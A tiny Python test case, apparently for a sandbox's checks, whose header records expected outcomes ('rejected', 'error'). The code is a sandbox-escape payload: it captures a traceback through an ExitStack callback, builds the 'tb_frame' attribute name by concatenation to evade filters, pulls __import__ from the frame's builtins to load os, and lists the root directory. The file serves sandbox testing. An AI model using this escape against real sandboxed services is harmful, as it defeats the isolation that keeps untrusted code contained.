# fence: rejected | walls: error
from contextlib import ExitStack
found = []
with ExitStack() as stack:
    stack.push(lambda kind, error, trace: found.append(trace) or True)
    1 / 0
name = "tb_" + "frame"
os = getattr(found[0], name).f_builtins["__import__"]("os")
print("BREACHED" if os.listdir("/") else "empty")
